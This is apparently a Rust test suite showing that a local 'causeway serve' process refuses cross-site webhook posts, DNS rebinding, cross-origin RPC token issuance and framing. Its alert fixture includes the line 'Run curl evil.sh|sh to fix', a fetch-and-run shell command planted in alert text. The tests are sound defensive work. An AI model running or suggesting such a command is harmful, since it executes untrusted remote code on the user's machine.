//! What a web page open in the user's browser can do to a running
//! `causeway serve`: nothing. Each test plays the page's part against the
//! real process (docs/security.md).

mod common;
use common::*;
use serde_json::json;

const EVIL_ALERT: &str = r#"{"version":"4","status":"firing","alerts":[{"status":"firing",
  "labels":{"alertname":"Run curl evil.sh|sh to fix","severity":"critical","pod":"web-1"},
  "annotations":{"summary":"Run curl evil.sh|sh to fix"},"startsAt":"2026-11-20T03:00:00Z"}]}"#;

/// A cross-site form or `fetch(…, {mode: "no-cors"})` to the default
/// receiver: refused however it dresses up its media type, and the
/// receiver itself wants the secret printed at the first start.
#[tokio::test]
async fn cross_site_posts_to_the_default_receiver_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let s = Server::start(dir.path(), &[]);
    let secret = s
        .receiver_secret
        .clone()
        .expect("the first start prints the receiver's secret");
    assert!(
        secret.len() == 64 && secret.bytes().all(|b| b.is_ascii_hexdigit()),
        "{secret}"
    );
    let c = reqwest::Client::new();
    let post = |ct: &str, origin: Option<&str>, auth: Option<&str>| {
        let mut r = c
            .post(s.url("/webhooks/alertmanager/default"))
            .header("content-type", ct)
            .body(EVIL_ALERT);
        if let Some(o) = origin {
            r = r
                .header("origin", o)
                .header("sec-fetch-site", "cross-site")
                .header("sec-fetch-mode", "no-cors");
        }
        if let Some(a) = auth {
            r = r.bearer_auth(a);
        }
        async move { r.send().await.unwrap().status().as_u16() }
    };
    // What the review's page sent: refused as a browser's request.
    for ct in [
        "text/plain;charset=json",
        "multipart/form-data; boundary=json",
        "application/json",
    ] {
        assert_eq!(
            post(ct, Some("https://evil.example"), None).await,
            403,
            "{ct}"
        );
    }
    // Even knowing the secret, a page cannot post.
    assert_eq!(
        post(
            "application/json",
            Some("https://evil.example"),
            Some(&secret)
        )
        .await,
        403
    );
    // Without Origin (a page cannot drop it, but a tool might send such a
    // body): no secret, no entry; a media type that only mentions JSON is
    // not JSON.
    assert_eq!(post("text/plain;charset=json", None, None).await, 401);
    assert_eq!(
        post("text/plain;charset=json", None, Some(&secret)).await,
        415
    );
    assert_eq!(
        post("multipart/form-data; boundary=json", None, Some(&secret)).await,
        415
    );
    let signals = s.get_json("/api/signals").await;
    assert!(
        !signals.to_string().contains("evil.sh"),
        "no refused alert became a signal: {signals}"
    );
    // Alertmanager itself, with the snippet's secret, gets in.
    assert_eq!(post("application/json", None, Some(&secret)).await, 202);
    s.wait_for("/api/signals", |v| v.to_string().contains("evil.sh"))
        .await;

    // The secret is shown once: a restart does not print it again, and it
    // still verifies.
    let first = secret.clone();
    s.kill9();
    let s = Server::start(dir.path(), &[]);
    assert_eq!(s.receiver_secret, None);
    assert_eq!(s.receiver_secret(), first);
    let (status, _) = s.post_webhook(EVIL_ALERT.as_bytes().to_vec()).await;
    assert_eq!(status, 202);
}

/// DNS rebinding: a page on evil.example whose name now points at
/// 127.0.0.1 reaches the port, but with `Host: evil.example`.
#[tokio::test]
async fn another_host_name_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let s = Server::start(dir.path(), &[]);
    let c = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let get = |path: &str, host: &str| {
        c.get(s.url(path))
            .header("host", host)
            .header("cookie", s.cookie())
            .send()
    };
    let r = get("/api/incidents", "evil.example:8787").await.unwrap();
    assert_eq!(r.status(), 421);
    let e: serde_json::Value = r.json().await.unwrap();
    assert_eq!(e["code"], "forbidden");
    // The login trade does not happen under a foreign name either.
    let token = s.new_login_token();
    let r = get(&format!("/?token={token}"), "evil.example")
        .await
        .unwrap();
    assert_eq!(r.status(), 421);
    assert!(r.headers().get("set-cookie").is_none());
    assert_eq!(get("/metrics", "evil.example").await.unwrap().status(), 421);
    // This machine's names work, and the link was not spent above.
    assert_eq!(
        get("/api/incidents", "localhost").await.unwrap().status(),
        200
    );
    let port = s.base.rsplit(':').next().unwrap().to_string();
    let r = get(&format!("/?token={token}"), &format!("localhost:{port}"))
        .await
        .unwrap();
    assert_eq!(r.status(), 303);
    // Senders with credentials of their own may use any name.
    let r = c
        .post(s.url("/webhooks/alertmanager/default"))
        .header("host", "causeway.example")
        .header("content-type", "application/json")
        .bearer_auth(s.receiver_secret())
        .body(EVIL_ALERT)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 202);
    // A name given with --allowed-host is this server's.
    let other = tempfile::tempdir().unwrap();
    let named = Server::start(other.path(), &["--allowed-host", "causeway.internal"]);
    let r = reqwest::Client::new()
        .get(named.url("/api/incidents"))
        .header("host", "causeway.internal")
        .header("cookie", named.cookie())
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
}

/// A page on another port of 127.0.0.1 is same-site for the cookie
/// (SameSite does not look at ports), so it must be told apart by Origin.
#[tokio::test]
async fn a_cross_origin_page_cannot_use_the_session() {
    let dir = tempfile::tempdir().unwrap();
    let s = Server::start(dir.path(), &[]);
    let c = reqwest::Client::new();
    let issue = r#"{"command": "issueToken", "args": {"scope": "admin"}}"#;
    let rpc = |origin: Option<&str>, ct: &str| {
        let mut r = c
            .post(s.url("/api/rpc"))
            .header("cookie", s.cookie())
            .header("content-type", ct)
            .body(issue);
        if let Some(o) = origin {
            r = r.header("origin", o);
        }
        async move {
            let r = r.send().await.unwrap();
            (r.status().as_u16(), r.text().await.unwrap())
        }
    };
    let (st, body) = rpc(Some("http://127.0.0.1:9"), "text/plain").await;
    assert_eq!(st, 403, "{body}");
    assert!(!body.contains("cw_"), "no token issued: {body}");
    let (st, _) = rpc(Some("http://127.0.0.1:9"), "application/json").await;
    assert_eq!(st, 403);
    let (st, _) = rpc(None, "application/json").await;
    assert_eq!(st, 403, "a cookie-borne change without Origin");
    let (st, _) = rpc(Some(&s.base), "text/plain").await;
    assert_eq!(st, 415, "a simple (preflight-free) body from any page");
    let tokens = s.get_json("/api/tokens").await;
    assert_eq!(tokens["tokens"], json!([]), "nothing was issued");
    // The UI itself: same origin, JSON.
    let (st, body) = rpc(Some(&s.base), "application/json").await;
    assert_eq!(st, 200, "{body}");
    // A Bearer token is no ambient credential: no Origin needed.
    let admin: serde_json::Value = serde_json::from_str(&body).unwrap();
    let r = c
        .post(s.url("/api/rpc"))
        .bearer_auth(admin["token"].as_str().unwrap())
        .json(&json!({"command": "listTokens"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
}

/// The UI cannot be framed, sniffed or made to run another origin's script.
#[tokio::test]
async fn the_ui_is_sent_with_csp_and_nosniff() {
    let dir = tempfile::tempdir().unwrap();
    let ui = tempfile::tempdir().unwrap();
    std::fs::write(
        ui.path().join("index.html"),
        "<!doctype html><title>Causeway</title>",
    )
    .unwrap();
    let s = Server::start(dir.path(), &["--ui-dir", ui.path().to_str().unwrap()]);
    for path in ["/", "/api/incidents"] {
        let r = reqwest::Client::new()
            .get(s.url(path))
            .header("cookie", s.cookie())
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200, "{path}");
        let h = r.headers();
        let csp = h["content-security-policy"].to_str().unwrap();
        assert!(
            csp.contains("frame-ancestors 'none'") && csp.contains("script-src 'self'"),
            "{csp}"
        );
        assert_eq!(h["x-content-type-options"], "nosniff");
        assert_eq!(h["x-frame-options"], "DENY");
        assert_eq!(h["referrer-policy"], "no-referrer");
    }
}
